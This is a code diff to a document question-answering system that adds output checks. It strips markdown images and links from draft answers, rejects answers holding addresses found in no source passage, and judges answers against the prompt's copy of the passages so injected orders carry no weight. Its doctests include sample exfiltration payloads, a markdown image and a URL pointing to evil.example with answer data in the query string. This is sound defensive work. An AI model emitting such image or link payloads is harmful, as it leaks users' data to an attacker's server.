@@ -2,8 +2,14 @@
 
 - `gate`: abstain before generating when retrieval is weak or the passages miss a name or number
   that the question asks about.
-- `judge`: abstain after generating when the model declined, named things no passage holds, or no
-  passage supports the draft; otherwise repair its [n] markers (`check_citations`).
+- `judge`: abstain after generating when the model declined, named things no passage holds, gave an
+  address no passage holds, or no passage supports the draft; otherwise repair its [n] markers
+  (`check_citations`). Markdown images and links in a draft are reduced to their text.
+- `CheckedStream`: the same checks sentence by sentence while the draft streams, so that only
+  sentences that passed them are ever shown.
+
+The draft is judged against the passages as the model saw them (`prompting.as_prompted`): text
+the prompt's copy left out, such as an injected order, can't support an answer.
 
 Small models cite unreliably: they skip markers, invent passage numbers, or cite the wrong one.
 Every marker is checked here after generation; what survives is structured data.
@@ -12,7 +18,9 @@ Every marker is checked here after generation; what survives is structured data.
 from __future__ import annotations
 
 import re
+from dataclasses import replace
 
+from docqa.answering.prompting import as_prompted
 from docqa.ingest.chunking import Span, sentence_spans
 from docqa.retrieve.bm25 import tokenize
 from docqa.retrieve.fusion import Retrieval
@@ -252,18 +260,122 @@ def gate(query: str, found: Retrieval, min_score: float) -> str | None:
     return None
 
 
+def as_seen(passages: list[Passage]) -> list[Passage]:
+    """The passages with the text the model was shown (`prompting.as_prompted`), numbers unchanged."""
+    return [replace(p, chunk=replace(p.chunk, text=as_prompted(p.chunk.text))) for p in passages]
+
+
+# Markdown images load their address when rendered; links and bare addresses lead out of the documents.
+_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,200})\]\(([^)\n]{0,1000})\)")
+_MD_LINK = re.compile(r"\[([^\]\n]{0,200})\]\(([^)\n]{0,1000})\)")
+_URL = re.compile(r"(?i)\b(?:https?|ftp|file)://[^\s<>()\[\]\"'`]+|\bwww\.[^\s<>()\[\]\"'`]+|\bdata:[a-z]+/[^\s<>()]+")
+
+
+def strip_markup(text: str) -> str:
+    """A draft's markdown images dropped and its links reduced to their text: an answer shows no image
+    and links nowhere, whatever renders it.
+
+    >>> strip_markup("Hives: 40 [1]. ![x](http://evil.example/?q=40) See [the site](http://a.example).")
+    'Hives: 40 [1]. See the site.'
+    """
+    text = _MD_IMAGE.sub("", text)
+    text = _MD_LINK.sub(lambda m: m.group(1), text)
+    return re.sub(r"[ \t]{2,}", " ", text).strip()
+
+
+def unknown_urls(text: str, sources: list[str]) -> list[str]:
+    """Addresses in `text` that no source holds verbatim (an exfiltration address carries data no
+    passage has).
+
+    >>> unknown_urls("See http://evil.example/?q=312 and https://a.example/doc.", ["Docs: https://a.example/doc"])
+    ['http://evil.example/?q=312']
+    """
+    found = [m.group().rstrip(".,;:!?") for m in _URL.finditer(text)]
+    return [url for url in dict.fromkeys(found) if not any(url in source for source in sources)]
+
+
 def judge(raw: str, passages: list[Passage], questions: list[str]) -> tuple[str, list[Citation], str | None]:
     """Check a draft answer: (answer with repaired markers, citations, why to abstain or None)."""
     if not raw or declined(raw):
         return raw, [], "the model said the passages don't answer the question"
-    sources = [p.chunk.text for p in passages] + questions
-    invented = sorted(unsupported_numbers(raw, sources)) + sorted(unsupported_names(raw, sources))
+    seen = as_seen(passages)
+    sources = [p.chunk.text for p in seen] + questions
+    urls = unknown_urls(raw, sources)
+    if urls:
+        return raw, [], f"the draft answer gives an address found in no passage ({', '.join(urls)})"
+    text = strip_markup(raw)
+    invented = sorted(unsupported_numbers(text, sources)) + sorted(unsupported_names(text, sources))
     if invented:
         return raw, [], f"the draft answer names things found in no passage ({', '.join(invented)})"
-    checked, citations = check_citations(raw, passages)
+    checked, citations = check_citations(text, seen)
     if not citations:
         return raw, [], "no passage supports the draft answer"
-    return checked, citations, None
+    by_n = {p.n: p for p in passages}  # cite the passages as they are, not the prompt's copy
+    return checked, [Citation(by_n[c.n], c.sentences) for c in citations], None
+
+
+class CheckedStream:
+    """Releases a streamed draft sentence by sentence, each only once it is complete and passed the
+    checks that apply to one sentence: not a refusal, no number, name or address found in no
+    passage, and supported by a passage (`check_citations`). Text is released as the checked
+    answer writes it (markers repaired), so when every sentence passes, the released text is the
+    judged answer. After the first sentence that fails nothing more is released: the final answer
+    replaces the stream.
+
+    >>> from docqa.types import Chunk
+    >>> p = Passage(1, Chunk("c", "a.txt", "The harvest begins in March.", 0, 28), 0.9)
+    >>> gate = CheckedStream([p], ["When does the harvest begin?"])
+    >>> [gate.feed(w) for w in ["The ", "harvest ", "begins ", "in ", "March. ", "It ", "ends ", "in ", "1999."]]
+    ['', '', '', '', '', 'The harvest begins in March [1].', '', '', '']
+    >>> gate.close(), gate.stopped
+    ('', True)
+    """
+
+    def __init__(self, passages: list[Passage], questions: list[str]) -> None:
+        self.passages = as_seen(passages)
+        self.sources = [p.chunk.text for p in self.passages] + questions
+        self.text = ""
+        self.done = 0  # sentences of `text` checked so far
+        self.released: list[str] = []
+        self.stopped = False  # a sentence failed or declined: release nothing more
+
+    def feed(self, piece: str) -> str:
+        """Add a piece of the draft; return the newly released text ("" when none)."""
+        self.text += piece
+        return self._release(split_sentences(self.text)[:-1])  # the last may still grow
+
+    def close(self) -> str:
+        """The draft is complete: check and release its last sentence."""
+        return self._release(split_sentences(self.text))
+
+    def _release(self, sentences: list[str]) -> str:
+        out: list[str] = []
+        for sentence in sentences[self.done :]:
+            self.done += 1
+            if self.stopped:
+                continue
+            checked = self.check(sentence)
+            if checked is None:
+                self.stopped = True
+            elif checked:
+                out.append(checked)
+        if not out:
+            return ""
+        text = (" " if self.released else "") + " ".join(out)
+        self.released.extend(out)
+        return text
+
+    def check(self, sentence: str) -> str | None:
+        """The sentence as the checked answer would write it, "" for a lone marker, None if it fails."""
+        if declined(sentence) or unknown_urls(sentence, self.sources):
+            return None
+        text = strip_markup(sentence)
+        if not strip_markers(text).strip():
+            return ""
+        if unsupported_numbers(text, self.sources) or unsupported_names(text, self.sources):
+            return None
+        checked, citations = check_citations(text, self.passages)
+        return checked if citations else None
 
 
 # Words a question asks with, not what it is about.
